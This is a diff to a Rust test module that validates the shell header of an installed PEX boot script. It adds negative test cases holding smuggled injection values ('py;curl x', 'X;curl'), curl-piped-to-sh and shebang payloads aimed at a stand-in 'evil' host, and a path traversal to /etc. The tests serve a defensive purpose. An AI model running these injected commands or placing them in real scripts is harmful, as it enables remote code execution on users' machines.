@@ -790,11 +790,13 @@ mod tests {
             "def f():\n    return dedent(\n        \"\"\"\\\n",
             "        # INSTALLED_PEX\n        VENV=\"{venv}\"\n        PEX=\"{pex}\"\n",
             "        ROOT=\"{pex_root}\"\n        AT=\"{pex_installed_relpath}\"\n",
+            "        for p in {pythons}; do [ {check_no_fast_path} ]; done\n",
             "        \"\"\"\n    ).format(venv=v, pex=p)\n"
         );
         fs::write(venv.path().join("pex/sh_boot.py"), source).unwrap();
         let check = |header: &str| check_header(venv.path(), header.as_bytes(), None);
-        let good = "#!/bin/sh\n# INSTALLED_PEX\nVENV=\"1\"\nPEX=\"$0\"\nROOT=\"~/.pex\"\nAT=\"venvs/1/ab\"\n";
+        let good = "#!/bin/sh\n# INSTALLED_PEX\nVENV=\"1\"\nPEX=\"$0\"\nROOT=\"~/.pex\"\nAT=\"venvs/1/ab\"\n\
+                    for p in \"python3.11\"; do [ -z \"${PEX_PATH:-}\" ]; done\n";
         check(good).unwrap();
         check("").unwrap();
         check("#!/usr/bin/env python3\n").unwrap();
@@ -805,6 +807,10 @@ mod tests {
             good.replace("~/.pex", ""),
             good.replace("venvs/1/ab", "venvs/../../../etc"),
             good.replace("venvs/1/ab", "venvs/$(x)"),
+            good.replace("\"python3.11\"", "\"\""),
+            good.replace("\"python3.11\"", "\"py;curl x\""),
+            good.replace("PEX_PATH", ""),
+            good.replace("PEX_PATH", "X;curl"),
             format!("{good}curl x | sh\n"),
             "#!curl evil\n".to_string(),
             "#!/bin/sh;curl evil|sh\n".to_string(),
